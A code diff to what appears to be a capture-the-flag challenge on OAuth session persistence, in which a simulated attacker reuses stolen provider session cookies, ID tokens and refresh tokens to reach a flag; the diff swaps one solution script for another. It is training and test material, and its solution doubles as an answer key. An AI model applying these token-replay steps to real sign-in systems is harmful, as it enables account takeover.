@@ -26,7 +26,7 @@ TARGET = Target(
     "value",
     value(flag_mistake),
     "You outlived the response. What ends copies does not end what Tom made with them before. "
-    "There are other ways: a refresh token of his own, or a session of his own at `notes`.",
+    "There are other ways: a refresh token of his own, or one more way to a session at `notes`.",
     {
         "other": (
             "That is not the flag. The answer of the API or of `notes` to GET /notes holds it, "
@@ -55,19 +55,10 @@ TARGET = Target(
         "code_verifier=scene.verifier, respond, and refresh.",
     ),
     code("""
-        stolen = scene.steal("session at the provider")
-        cookie = {"cookie": "session=" + stolen["session at the provider"]}
-        url = "https://login.example/authorize"
-        landed = scene.tom.get(url, params=scene.link, headers=cookie)
-        form = {"grant_type": "authorization_code", "client_id": "notes"}
-        form["code"] = landed.next_request.url.params["code"]
-        form["redirect_uri"] = "https://notes.example/cb"
-        form["code_verifier"] = scene.verifier
-        own = scene.tom.post("https://login.example/token", data=form).json()
+        stolen = scene.steal("ID token")["ID token"]
+        scene.tom.post("https://notes.example/phone", data={"token": stolen})
         scene.respond()
-        token = knock(scene.tom, "token endpoint", own["refresh_token"]).json()["access_token"]
-        notes = scene.tom.get("https://api.example/notes", headers=bearer(token))
-        flag = notes.json()["flag"]
+        flag = scene.tom.get("https://notes.example/notes").json()["flag"]
     """),
     brief=f"""Tom has time to copy {MOST} things: scene.steal(name, name). scene.menu lists the \
 names.
